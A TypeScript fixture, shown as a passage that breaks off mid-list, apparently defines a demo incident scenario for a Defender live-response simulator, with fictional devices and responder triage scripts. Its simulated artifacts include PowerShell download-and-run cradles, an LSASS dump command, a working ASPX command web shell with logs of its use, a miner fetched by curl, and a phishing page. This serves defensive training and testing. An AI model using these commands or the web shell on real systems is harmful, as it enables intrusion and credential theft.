import { parseScenario, type Scenario, type ScenarioInput } from "./scenario.js";

/**
 * The demo tenant the simulator starts with: Contoso, in the middle of an incident. A finance
 * workstation ran a fake invoice, a domain controller has an LSASS dump lying around, a Linux web
 * server mines coin from /tmp. Every script a responder would reach for is in the library, plus
 * scripts that fail in each way the API can fail. examples/scenario.demo.json holds the same data
 * for users to copy and edit (a test keeps the two equal).
 */

const lines = (...parts: string[]): string => parts.join("\n");

/** A stand-in Authenticode block: the simulator only checks that it is there. Not a real signature. */
const SIGNATURE = lines(
  "",
  "# SIG # Begin signature block",
  "# MIIoKgYJKoZIhvcNAQcCoIIoGzCCKBcCAQExDzANBglghkgBZQMEAgEFADB5Bgor",
  "# BgEEAYI3AgEEoGswaTA0BgorBgEEAYI3AgEeMCYCAwEAAAQQH8w7YFlLCE63JNLG",
  "# DEMO-ONLY-SIGNATURE-NOT-A-REAL-CERTIFICATE-CONTOSO-SECOPS-2025==",
  "# SIG # End signature block",
  "",
);

const CREATED = "2025-11-03T14:22:07.4418823Z";

const windowsProcesses = lines(
  "Process list for {computerDnsName} ({machineId})",
  "",
  "  PID  PPID Name                    User                 CommandLine",
  "  ---  ---- ----                    ----                 -----------",
  "    4     0 System                  NT AUTHORITY\\SYSTEM",
  "  612   508 wininit.exe             NT AUTHORITY\\SYSTEM  wininit.exe",
  "  748   612 services.exe            NT AUTHORITY\\SYSTEM  C:\\Windows\\system32\\services.exe",
  "  760   612 lsass.exe               NT AUTHORITY\\SYSTEM  C:\\Windows\\system32\\lsass.exe",
  " 1012   748 svchost.exe             NT AUTHORITY\\SYSTEM  C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
  ' 2876   748 MsMpEng.exe             NT AUTHORITY\\SYSTEM  "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe"',
  ' 3140   748 MsSense.exe             NT AUTHORITY\\SYSTEM  "C:\\Program Files\\Windows Defender Advanced Threat Protection\\MsSense.exe"',
  " 5120  5096 explorer.exe            CONTOSO\\jdoe         C:\\Windows\\Explorer.EXE",
  ' 6204  5120 OUTLOOK.EXE             CONTOSO\\jdoe         "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"',
  ' 7412  6204 invoice_2291.pdf.exe    CONTOSO\\jdoe         "C:\\Windows\\Temp\\invoice_2291.pdf.exe" -k netsvc',
  ' 7588  7412 powershell.exe          CONTOSO\\jdoe         powershell.exe -w hidden -nop -c "iex (iwr https://cdn-invoices.example.net/u.ps1 -UseBasicParsing)"',
  ' 8120  5120 msedge.exe              CONTOSO\\jdoe         "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"',
  "",
  "14 processes",
);

const serverProcesses = lines(
  "Process list for {computerDnsName} ({machineId})",
  "",
  "  PID  PPID Name                                   User                 CommandLine",
  "  ---  ---- ----                                   ----                 -----------",
  "    4     0 System                                 NT AUTHORITY\\SYSTEM",
  "  688   596 lsass.exe                              NT AUTHORITY\\SYSTEM  C:\\Windows\\system32\\lsass.exe",
  " 2212   740 dns.exe                                NT AUTHORITY\\SYSTEM  C:\\Windows\\system32\\dns.exe",
  " 2260   740 dfsrs.exe                              NT AUTHORITY\\SYSTEM  C:\\Windows\\system32\\DFSRs.exe",
  " 2304   740 ismserv.exe                            NT AUTHORITY\\SYSTEM  C:\\Windows\\System32\\ismserv.exe",
  " 2388   740 Microsoft.ActiveDirectory.WebServices  NT AUTHORITY\\SYSTEM  C:\\Windows\\ADWS\\Microsoft.ActiveDirectory.WebServices.exe",
  ' 2904   740 MsSense.exe                            NT AUTHORITY\\SYSTEM  "C:\\Program Files\\Windows Defender Advanced Threat Protection\\MsSense.exe"',
  " 9316  9288 rundll32.exe                           CONTOSO\\svc-backup   rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 688 C:\\Windows\\Temp\\lsass.dmp full",
  "",
  "8 processes",
);

const windowsConnections = lines(
  "TCP connections on {computerDnsName}",
  "",
  "LocalAddress  LocalPort RemoteAddress   RemotePort State       OwningProcess ProcessName",
  "------------  --------- -------------   ---------- -----       ------------- -----------",
  "0.0.0.0             135 0.0.0.0                  0 Listen                1168 svchost",
  "0.0.0.0             445 0.0.0.0                  0 Listen                   4 System",
  "10.20.14.142      52114 10.20.0.10             389 Established           760 lsass",
  "10.20.14.142      52270 52.113.194.132         443 Established          8120 msedge",
  "10.20.14.142      52301 203.0.113.45           443 Established          7412 invoice_2291.pdf",
  "10.20.14.142      52302 203.0.113.45          8443 SynSent              7588 powershell",
);

const autoruns = lines(
  "Persistence on {computerDnsName}",
  "",
  "== Run keys ==",
  "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run  SecurityHealth  %windir%\\system32\\SecurityHealthSystray.exe",
  'HKCU\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run  OneDrive        "C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background',
  'HKCU\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run  InvoiceSync     "C:\\Windows\\Temp\\invoice_2291.pdf.exe" -k netsvc',
  "",
  "== Startup folders ==",
  'C:\\Users\\jdoe\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\updater.lnk -> powershell.exe -w hidden -nop -c "iex (iwr https://cdn-invoices.example.net/u.ps1)"',
  "",
  "== Services (non-Microsoft, auto start) ==",
  'Sense          Running  "C:\\Program Files\\Windows Defender Advanced Threat Protection\\MsSense.exe"',
  'WinDefend      Running  "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe"',
  "",
  "== Scheduled tasks (non-Microsoft) ==",
  "\\OneDrive Reporting Task-S-1-5-21-1004336348-1177238915-682003330-1104  Ready  %localappdata%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe /reporting",
  "\\Microsoft\\Windows\\UpdateOrchestrator\\InvoiceSyncTask                  Ready  C:\\Windows\\Temp\\invoice_2291.pdf.exe -k netsvc   (created 2026-01-14 08:12, author CONTOSO\\jdoe)",
);

const recentFiles = lines(
  "Files written on {computerDnsName} (arguments: {args})",
  "",
  "LastWriteTimeUtc      Length    FullName",
  "----------------      ------    --------",
  "2026-01-14 08:11:52    486912   C:\\Windows\\Temp\\invoice_2291.pdf.exe",
  "2026-01-14 08:12:03      1364   C:\\Users\\jdoe\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\updater.lnk",
  "2026-01-14 08:12:09      3942   C:\\Windows\\System32\\Tasks\\Microsoft\\Windows\\UpdateOrchestrator\\InvoiceSyncTask",
  "2026-01-14 08:40:17    118204   C:\\Users\\jdoe\\Downloads\\Invoice_2291.zip",
  "2026-01-13 16:02:44     24576   C:\\Users\\jdoe\\Documents\\Q4 close checklist.docx",
  "",
  "5 files",
);

const eventLogs = lines(
  "Exporting event logs on {computerDnsName}",
  "Security.evtx                                   112.4 MB",
  "System.evtx                                      20.1 MB",
  "Microsoft-Windows-PowerShell%4Operational.evtx   15.0 MB",
  "Microsoft-Windows-Sysmon%4Operational.evtx       64.0 MB",
  "Compressed to C:\\Windows\\Temp\\IR\\EventLogs.zip (2.4 MB)",
  "Collect it with: GetFile C:\\Windows\\Temp\\IR\\EventLogs.zip",
);

const linuxTriage = lines(
  "== host ==",
  "{computerDnsName} ({machineId})",
  "Linux {computerDnsName} 5.15.0-122-generic #132-Ubuntu SMP x86_64 GNU/Linux",
  " 09:14:02 up 41 days,  3:22,  0 users,  load average: 3.97, 3.88, 3.71",
  "",
  "== ps (top CPU) ==",
  "USER         PID %CPU %MEM    VSZ   RSS COMMAND",
  "www-data   48211 98.7  2.1 621340 84412 /tmp/.x/kworker -c /tmp/.x/config.json",
  "root        1184  1.2  0.8 284112 33120 /opt/microsoft/mdatp/sbin/wdavdaemon",
  "www-data    2240  0.4  0.3  61220 12804 nginx: worker process",
  "root         912  0.0  0.1  15432  9012 /usr/sbin/sshd -D",
  "",
  "== ss -tunap (established) ==",
  'tcp ESTAB 0 0 10.40.2.21:443   198.51.100.23:51544 users:(("nginx",pid=2240,fd=12))',
  'tcp ESTAB 0 0 10.40.2.21:41922 203.0.113.99:4444  users:(("kworker",pid=48211,fd=7))',
  "",
  "== crontab / cron.d ==",
  "/etc/cron.d/.sysupdate: */5 * * * * root /tmp/.x/kworker -c /tmp/.x/config.json >/dev/null 2>&1",
  "",
  "== last -n 5 ==",
  "deploy   pts/0        203.0.113.77     Tue Jan 13 22:41 - 23:05  (00:24)",
  "deploy   pts/0        10.40.0.5        Tue Jan 13 10:02 - 10:31  (00:29)",
  "root     pts/1        10.40.0.5        Mon Jan 12 15:47 - 15:49  (00:02)",
  "",
  "wtmp begins Thu Jan  1 00:00:03 2026",
);

const macTriage = lines(
  "== host ==",
  "{computerDnsName} ({machineId})",
  "ProductName: macOS  ProductVersion: 14.7.1  BuildVersion: 23H222",
  "",
  "== launchctl list (non-Apple) ==",
  "PID    Status  Label",
  "612    0       com.microsoft.wdav.tray",
  "-      0       com.microsoft.OneDriveStandaloneUpdater",
  "1377   0       com.apple.softwareupdate.agent",
  "",
  "== LaunchAgents ==",
  "/Users/kchen/Library/LaunchAgents/com.apple.softwareupdate.agent.plist -> /Users/kchen/.local/bin/softwareupdated (unsigned, created 2026-01-12 19:03)",
  "",
  "== lsof -i (established) ==",
  "softwareu 1377 kchen 9u IPv4 TCP 10.30.8.44:50122->203.0.113.150:443 (ESTABLISHED)",
  "",
  "== last -5 ==",
  "kchen     console                   Wed Jan 14 08:01   still logged in",
);

export const DEMO_SCENARIO: ScenarioInput = {
  name: "Contoso demo",
  tenant: {
    id: "064c8ffa-2738-5bb4-83e6-a15884762397",
    liveResponseEnabled: true,
    unsignedScriptExecution: false,
  },
  apps: [
    {
      clientId: "23a5e67d-682f-5b84-ae28-54f0aa43ab07",
      displayName: "mde-live-response-mcp (demo)",
      clientSecret: "Dem8Q~SimulatorOnly.NotARealSecret-0000000000",
      roles: ["Machine.LiveResponse", "Machine.Read.All", "Library.Manage"],
      // The review console's Entra ID sign-in on this machine (MDE_REVIEW_ENTRA): loopback redirect
      // URIs match whatever port the console listens on.
      redirectUris: [
        "http://127.0.0.1/review/signin/entra/callback",
        "http://localhost/review/signin/entra/callback",
      ],
    },
  ],
  // People who sign in to the review console: Dana holds the reviewer app role, John does not.
  users: [
    {
      upn: "dana@contoso.com",
      displayName: "Dana Whitfield",
      password: "Dana-SimulatorOnly-NotARealPassword",
      roles: ["LiveResponse.Reviewer"],
      deviceGroups: [],
    },
    {
      upn: "jdoe@contoso.com",
      displayName: "John Doe",
      password: "Jdoe-SimulatorOnly-NotARealPassword",
      deviceGroups: [],
    },
  ],
  devices: [
    {
      id: "9d663375e3e46799a6657b0c0c74b873c9fcd069",
      computerDnsName: "fin-ws-0142.contoso.com",
      osPlatform: "Windows11",
      osVersion: "10.0.22631.4751",
      osBuild: 22631,
      version: "23H2",
      agentVersion: "10.8760.22631.4751",
      lastIpAddress: "10.20.14.142",
      lastExternalIpAddress: "203.0.113.24",
      rbacGroupId: 101,
      rbacGroupName: "Finance Workstations",
      riskScore: "High",
      exposureLevel: "Medium",
      isAadJoined: true,
      aadDeviceId: "b9469b03-1784-5b57-840e-b09eaf82eff3",
      machineTags: ["Finance", "VIP"],
      files: [
        {
          path: "C:\\Windows\\Temp\\invoice_2291.pdf.exe",
          contentBase64:
            "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4gaW4gRE9TIG1vZGUuDQ0KJAAAAAAAAABQRQAAZIYGAAAAAAAAAAAAAAAAAAAAAAAudGV4dAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAALnJkYXRhAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAGh0dHBzOi8vY2RuLWludm9pY2VzLmV4YW1wbGUubmV0L2dhdGUucGhwAEdsb2JhbFxJbnZvaWNlU3luY011dGV4AA==",
        },
        {
          path: "C:\\Users\\jdoe\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\updater.lnk",
          contentBase64:
            "TAAAAAEUAgAAAAAAwAAAAAAAAEabAAgAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAEMAOgBcAFcAaQBuAGQAbwB3AHMAXABTAHkAcwB0AGUAbQAzADIAXABXAGkAbgBkAG8AdwBzAFAAbwB3AGUAcgBTAGgAZQBsAGwAXAB2ADEALgAwAFwAcABvAHcAZQByAHMAaABlAGwAbAAuAGUAeABlAAAALQB3ACAAaABpAGQAZABlAG4AIAAtAG4AbwBwACAALQBjACAAIgBpAGUAeAAgACgAaQB3AHIAIABoAHQAdABwAHMAOgAvAC8AYwBkAG4ALQBpAG4AdgBvAGkAYwBlAHMALgBlAHgAYQBtAHAAbABlAC4AbgBlAHQALwB1AC4AcABzADEAIAAtAFUAcwBlAEIAYQBzAGkAYwBQAGEAcgBzAGkAbgBnACkAIgAAAA==",
        },
        { path: "C:\\Windows\\Temp\\IR\\EventLogs.zip", generatedBytes: 2_516_582 },
        { path: "C:\\Windows\\Temp\\IR\\collector.log", kind: "empty" },
        { path: "C:\\Users\\jdoe\\OneDrive - Contoso\\Finance\\Q4-forecast.xlsx", kind: "placeholder" },
        { path: "C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\WindowsApps\\python.exe", kind: "reparsePoint" },
      ],
    },
    {
      id: "2be8a43e061cff68020fca2c9ac134d5d0d20a1b",
      computerDnsName: "hr-ws-0087.contoso.com",
      osPlatform: "Windows10",
      osVersion: "10.0.19045.5371",
      osBuild: 19045,
      version: "22H2",
      agentVersion: "10.8760.19045.5371",
      lastIpAddress: "10.20.22.87",
      lastExternalIpAddress: "203.0.113.24",
      rbacGroupId: 102,
      rbacGroupName: "HR Workstations",
      riskScore: "Medium",
      exposureLevel: "Medium",
      isAadJoined: true,
      aadDeviceId: "5d1c3f0e-8a41-5e1b-9f6a-2c7b0e4d9a12",
      machineTags: ["HR"],
      files: [
        { path: "C:\\Users\\asmith\\Downloads\\Benefits_2026_Enrollment.docm", generatedBytes: 48_128 },
        {
          path: "C:\\Users\\asmith\\AppData\\Local\\Temp\\~WRS0001.tmp",
          content:
            'Set o = CreateObject("MSXML2.XMLHTTP")\r\no.Open "GET", "https://hr-benefits.example.com/p.txt", False\r\n',
        },
      ],
    },
    {
      id: "580f39c6c4ec0597bb63472fa144dbd885b2575a",
      computerDnsName: "exec-lt-0007.contoso.com",
      osPlatform: "Windows11",
      osVersion: "10.0.26100.2894",
      osBuild: 26100,
      version: "24H2",
      agentVersion: "10.8760.26100.2894",
      lastIpAddress: "10.20.40.7",
      lastExternalIpAddress: "198.51.100.61",
      rbacGroupId: 103,
      rbacGroupName: "Executive Devices",
      riskScore: "Low",
      exposureLevel: "Low",
      deviceValue: "High",
      isAadJoined: true,
      aadDeviceId: "e2a7c9d4-3b6f-5a80-8c1e-7f40d2b95c63",
      machineTags: ["VIP", "Laptop"],
      availability: { onlineAfterSeconds: 90 },
      files: [
        {
          path: "C:\\Users\\mbrown\\Downloads\\Wire_Transfer_Details.html",
          content:
            '<html><body onload="document.forms[0].submit()"><form action="https://login-contoso.example.net/oauth" method="post"></form></body></html>\n',
        },
      ],
    },
    {
      id: "b63153e8bd6b82ee9f39c9d441678fcfc24fc2ee",
      computerDnsName: "kiosk-lobby-01.contoso.com",
      osPlatform: "Windows10",
      osVersion: "10.0.19044.3086",
      osBuild: 19044,
      version: "21H2",
      agentVersion: "10.8560.19044.3086",
      lastIpAddress: "10.20.90.11",
      lastExternalIpAddress: "203.0.113.24",
      rbacGroupId: 104,
      rbacGroupName: "Shared Devices",
      machineTags: ["Kiosk"],
      availability: "offline",
      files: [{ path: "C:\\Windows\\Temp\\kiosk.log", content: "Kiosk session restarted\r\n" }],
    },
    {
      id: "bc2f7802a52ee6df330a0a7b77cfdd9d03f5fb67",
      computerDnsName: "dc01.contoso.com",
      osPlatform: "WindowsServer2022",
      osVersion: "10.0.20348.3091",
      osBuild: 20348,
      version: "21H2",
      agentVersion: "10.8760.20348.3091",
      lastIpAddress: "10.20.0.10",
      lastExternalIpAddress: "203.0.113.10",
      rbacGroupId: 110,
      rbacGroupName: "Tier 0 Servers",
      riskScore: "High",
      exposureLevel: "High",
      deviceValue: "High",
      machineTags: ["Tier0", "DomainController"],
      pickupDelaySeconds: 3,
      files: [
        { path: "C:\\Windows\\Temp\\lsass.dmp", generatedBytes: 8_388_608 },
        { path: "C:\\Windows\\Temp\\IR\\EventLogs.zip", generatedBytes: 4_404_019 },
      ],
    },
    {
      id: "01646d6c331924c57860df4ec2d905eec46a71c5",
      computerDnsName: "fs01.contoso.com",
      osPlatform: "WindowsServer2022",
      osVersion: "10.0.20348.3091",
      osBuild: 20348,
      version: "21H2",
      agentVersion: "10.8760.20348.3091",
      lastIpAddress: "10.20.0.21",
      lastExternalIpAddress: "203.0.113.10",
      rbacGroupId: 111,
      rbacGroupName: "Tier 1 Servers",
      riskScore: "Medium",
      exposureLevel: "Medium",
      deviceValue: "High",
      machineTags: ["Tier1", "FileServer", "Finance"],
      files: [
        {
          path: "D:\\Shares\\Finance\\README_RESTORE_FILES.txt",
          content:
            "Your files have been encrypted.\r\nTo restore them, contact restore-desk@example.org with your ID: CONTOSO-7F3A-22.\r\nDo not rename encrypted files.\r\n",
        },
        { path: "D:\\Shares\\Finance\\archive.vhdx", kind: "sparse" },
      ],
    },
    {
      id: "11e173f447eb1664cc06be68f834395c51308fce",
      computerDnsName: "app-srv-03.contoso.com",
      osPlatform: "WindowsServer2019",
      osVersion: "10.0.17763.6775",
      osBuild: 17763,
      version: "1809",
      agentVersion: "10.8760.17763.6775",
      lastIpAddress: "10.20.5.33",
      lastExternalIpAddress: "203.0.113.12",
      rbacGroupId: 111,
      rbacGroupName: "Tier 1 Servers",
      riskScore: "High",
      exposureLevel: "High",
      machineTags: ["Tier1", "IIS"],
      files: [
        {
          path: "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\errorpage.aspx",
          content:
            '<%@ Page Language="C#" %><% if (Request["k"] == "c0nt0s0") { var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + Request["q"]; p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true; p.Start(); Response.Write(p.StandardOutput.ReadToEnd()); } %>\r\n',
        },
        {
          path: "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex260114.log",
          content: lines(
            "#Software: Microsoft Internet Information Services 10.0",
            "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port c-ip cs(User-Agent) sc-status time-taken",
            "2026-01-14 02:13:41 10.20.5.33 POST /aspnet_client/system_web/errorpage.aspx k=c0nt0s0&q=whoami 443 203.0.113.88 python-requests/2.31.0 200 31",
            "2026-01-14 02:13:55 10.20.5.33 POST /aspnet_client/system_web/errorpage.aspx k=c0nt0s0&q=net+group+%22domain+admins%22+/domain 443 203.0.113.88 python-requests/2.31.0 200 412",
            "",
          ),
        },
      ],
    },
    {
      id: "a56a03dba7798c5165b7859fbec5e9dcd0edf2da",
      computerDnsName: "web-prod-01.contoso.com",
      osPlatform: "Linux",
      osVersion: "22.04",
      version: "Ubuntu 22.04.5 LTS",
      agentVersion: "101.24092.0002",
      lastIpAddress: "10.40.2.21",
      lastExternalIpAddress: "203.0.113.40",
      rbacGroupId: 120,
      rbacGroupName: "Linux Production",
      riskScore: "High",
      exposureLevel: "High",
      machineTags: ["Linux-Prod", "Web"],
      files: [
        {
          path: "/var/log/auth.log",
          content: lines(
            "Jan 13 22:39:12 web-prod-01 sshd[40112]: Failed password for invalid user admin from 203.0.113.77 port 51022 ssh2",
            "Jan 13 22:39:15 web-prod-01 sshd[40112]: Failed password for invalid user oracle from 203.0.113.77 port 51030 ssh2",
            "Jan 13 22:41:03 web-prod-01 sshd[40187]: Accepted password for deploy from 203.0.113.77 port 51102 ssh2",
            "Jan 13 22:41:03 web-prod-01 sshd[40187]: pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)",
            "Jan 13 22:43:29 web-prod-01 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/curl -so /tmp/.x/kworker https://203.0.113.99/k",
            "Jan 13 22:43:31 web-prod-01 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/tee /etc/cron.d/.sysupdate",
            "",
          ),
        },
        {
          path: "/tmp/.x/kworker",
          contentBase64:
            "f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAeG1yaWcgNi4yMS4wAHN0cmF0dW0rdGNwOi8vcG9vbC5leGFtcGxlLm9yZzo0NDQ0AC0tZG9uYXRlLWxldmVsPTAAL3RtcC8ueC9jb25maWcuanNvbgA=",
        },
        {
          path: "/etc/cron.d/.sysupdate",
          content: "*/5 * * * * root /tmp/.x/kworker -c /tmp/.x/config.json >/dev/null 2>&1\n",
        },
      ],
    },
    {
      id: "651bde003c13ffa6056ddeac20dbf8508effb8c3",
      computerDnsName: "db-prod-02.contoso.com",
      osPlatform: "Linux",
      osVersion: "9.4",
      version: "Red Hat Enterprise Linux 9.4",
      agentVersion: "101.24092.0002",
      lastIpAddress: "10.40.3.12",
      lastExternalIpAddress: null,
      rbacGroupId: 120,
      rbacGroupName: "Linux Production",
      riskScore: "Low",
      exposureLevel: "Medium",
      deviceValue: "High",
      machineTags: ["Linux-Prod", "Database"],
      files: [
        {
          path: "/var/log/secure",
          content:
            "Jan 14 06:00:01 db-prod-02 sshd[2211]: Accepted publickey for postgres from 10.40.0.5 port 40022 ssh2: ED25519 SHA256:Zq7m3kdemo\n",
        },
      ],
    },
    {
      id: "27ee37e665ec24926496d6dd88e9b389455e104e",
      computerDnsName: "mac-lt-0311.contoso.com",
      osPlatform: "macOS",
      osVersion: "14.7.1",
      version: "Sonoma",
      agentVersion: "101.24092.0004",
      lastIpAddress: "10.30.8.44",
      lastExternalIpAddress: "198.51.100.8",
      rbacGroupId: 105,
      rbacGroupName: "Mac Devices",
      riskScore: "Medium",
      exposureLevel: "Low",
      machineTags: ["VIP", "Design"],
      files: [
        {
          path: "/Users/kchen/Library/LaunchAgents/com.apple.softwareupdate.agent.plist",
          content: lines(
            '<?xml version="1.0" encoding="UTF-8"?>',
            '<plist version="1.0"><dict>',
            "<key>Label</key><string>com.apple.softwareupdate.agent</string>",
            "<key>ProgramArguments</key><array><string>/Users/kchen/.local/bin/softwareupdated</string></array>",
            "<key>RunAtLoad</key><true/><key>KeepAlive</key><true/>",
            "</dict></plist>",
            "",
          ),
        },
      ],
    },
  ],
  library: [
    {
      fileName: "Get-ProcessList.ps1",
      description: "Running processes with parent, owner and command line",
      creationTime: CREATED,
      content: lines(
        "Get-CimInstance Win32_Process | ForEach-Object {",
        "  $owner = Invoke-CimMethod -InputObject $_ -MethodName GetOwner",
        "  [pscustomobject]@{ PID = $_.ProcessId; PPID = $_.ParentProcessId; Name = $_.Name",
        '    User = "$($owner.Domain)\\$($owner.User)"; CommandLine = $_.CommandLine }',
        "} | Sort-Object PID | Format-Table -AutoSize | Out-String -Width 4096",
      ).concat(SIGNATURE),
      behaviour: { output: windowsProcesses, durationSeconds: 4 },
      behaviourByPlatform: {
        WindowsServer2022: { output: serverProcesses, durationSeconds: 5 },
      },
    },
    {
      fileName: "Get-NetConnections.ps1",
      description: "TCP connections and listening ports with the owning process",
      creationTime: CREATED,
      content: lines(
        "Get-NetTCPConnection | Select-Object LocalAddress, LocalPort, RemoteAddress, RemotePort, State, OwningProcess,",
        "  @{ n = 'ProcessName'; e = { (Get-Process -Id $_.OwningProcess -ErrorAction SilentlyContinue).ProcessName } } |",
        "  Format-Table -AutoSize | Out-String -Width 4096",
      ).concat(SIGNATURE),
      behaviour: { output: windowsConnections, durationSeconds: 3 },
    },
    {
      fileName: "Get-Autoruns.ps1",
      description: "Persistence: Run keys, startup folders, services and scheduled tasks",
      creationTime: CREATED,
      content: lines(
        "'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', 'HKCU:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run' |",
        "  ForEach-Object { Get-ItemProperty $_ }",
        'Get-ChildItem "$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"',
        "Get-CimInstance Win32_Service | Where-Object StartMode -eq 'Auto'",
        "Get-ScheduledTask | Where-Object { $_.Author -notlike 'Microsoft*' }",
      ).concat(SIGNATURE),
      behaviour: { output: autoruns, durationSeconds: 12 },
    },
    {
      fileName: "Get-RecentFiles.ps1",
      description: "Files written in the last N days under user profiles, ProgramData and Temp",
      creationTime: CREATED,
      hasParameters: true,
      parametersDescription: "-Days <n>",
      content: lines(
        "param([int]$Days = 1)",
        "$since = (Get-Date).AddDays(-$Days)",
        "'C:\\Users', 'C:\\ProgramData', 'C:\\Windows\\Temp' | ForEach-Object {",
        "  Get-ChildItem $_ -Recurse -File -Force -ErrorAction SilentlyContinue | Where-Object LastWriteTime -ge $since",
        "} | Sort-Object LastWriteTime -Descending | Format-Table LastWriteTimeUtc, Length, FullName -AutoSize",
      ).concat(SIGNATURE),
      behaviour: { output: recentFiles, durationSeconds: 6 },
    },
    {
      fileName: "Collect-EventLogs.ps1",
      description:
        "Exports Security, System, PowerShell and Sysmon logs to C:\\Windows\\Temp\\IR\\EventLogs.zip",
      creationTime: CREATED,
      content: lines(
        "$out = 'C:\\Windows\\Temp\\IR'; New-Item -ItemType Directory -Force $out | Out-Null",
        "'Security', 'System', 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-Sysmon/Operational' |",
        "  ForEach-Object { wevtutil epl $_ (Join-Path $out (($_ -replace '/', '%4') + '.evtx')) }",
        'Compress-Archive -Path "$out\\*.evtx" -DestinationPath "$out\\EventLogs.zip" -Force',
      ).concat(SIGNATURE),
      behaviour: { output: eventLogs, durationSeconds: 45 },
    },
    {
      fileName: "linux-triage.sh",
      description: "Linux triage: processes, sockets, cron, recent logins",
      creationTime: CREATED,
      content: lines(
        "#!/bin/bash",
        'echo "== host =="; hostname -f; uname -a; uptime',
        'echo "== ps (top CPU) =="; ps -eo user,pid,pcpu,pmem,vsz,rss,args --sort=-pcpu | head -20',
        'echo "== ss -tunap (established) =="; ss -tunap state established',
        'echo "== crontab / cron.d =="; grep -H . /etc/cron.d/* /etc/cron.d/.* 2>/dev/null; crontab -l 2>/dev/null',
        'echo "== last -n 5 =="; last -n 5',
        "",
      ),
      behaviour: { output: linuxTriage, durationSeconds: 5, transcriptHeader: false },
    },
    {
      fileName: "macos-triage.sh",
      description: "macOS triage: launch agents and daemons, connections, recent logins",
      creationTime: CREATED,
      content: lines(
        "#!/bin/bash",
        'echo "== host =="; hostname; sw_vers',
        'echo "== launchctl list (non-Apple) =="; launchctl list | grep -v com.apple.',
        'echo "== LaunchAgents =="; ls -l /Library/LaunchAgents /Users/*/Library/LaunchAgents',
        'echo "== lsof -i (established) =="; lsof -nP -i | grep ESTABLISHED',
        'echo "== last -5 =="; last -5',
        "",
      ),
      behaviour: { output: macTriage, durationSeconds: 6, transcriptHeader: false },
    },
    {
      fileName: "Failing-Script.ps1",
      description: "Demo: a script that fails (the action ends Failed)",
      creationTime: CREATED,
      content: "Get-Item 'HKLM:\\SECURITY\\Policy\\Secrets' -ErrorAction Stop".concat(SIGNATURE),
      behaviour: {
        durationSeconds: 2,
        outcome: "failed",
        failureMessage:
          "Script execution failed: Requested registry access is not allowed. (HKLM:\\SECURITY\\Policy\\Secrets)",
      },
    },
    {
      fileName: "Exit-NonZero.ps1",
      description: "Demo: a script that exits with code 3 and writes to stderr (the command still completes)",
      creationTime: CREATED,
      content: lines(
        "$cfg = 'C:\\Windows\\Temp\\IR\\collect.cfg'",
        "if (-not (Test-Path $cfg)) { Write-Error \"Cannot find path '$cfg' because it does not exist.\"; exit 3 }",
      ).concat(SIGNATURE),
      behaviour: {
        output:
          "Checking prerequisites on {computerDnsName}...\nConfiguration file missing, nothing collected.\n",
        errors:
          "Write-Error: Cannot find path 'C:\\Windows\\Temp\\IR\\collect.cfg' because it does not exist.\n    + CategoryInfo          : ObjectNotFound: (C:\\Windows\\Temp\\IR\\collect.cfg:String) [Write-Error], WriteErrorException\n",
        exitCode: 3,
        durationSeconds: 2,
      },
    },
    {
      fileName: "Long-Running.ps1",
      description: "Demo: a full-disk scan that runs past the 10 minute limit (the action ends TimeOut)",
      creationTime: CREATED,
      content: lines(
        "Get-PSDrive -PSProvider FileSystem | ForEach-Object {",
        "  Get-ChildItem $_.Root -Recurse -File -Force -ErrorAction SilentlyContinue | Get-FileHash -Algorithm SHA256",
        "}",
      ).concat(SIGNATURE),
      behaviour: {
        output: "Hashing every file on every volume of {computerDnsName}...\n",
        durationSeconds: 900,
      },
    },
    {
      fileName: "Big-Output.ps1",
      description: "Demo: a full process and module inventory, about 3 MB of output",
      creationTime: CREATED,
      content: "Get-Process -IncludeUserName | Format-Table -AutoSize | Out-String -Width 4096".concat(
        SIGNATURE,
      ),
      behaviour: {
        output: "Full process inventory for {computerDnsName}",
        extraOutputBytes: 3_145_728,
        durationSeconds: 20,
      },
    },
    {
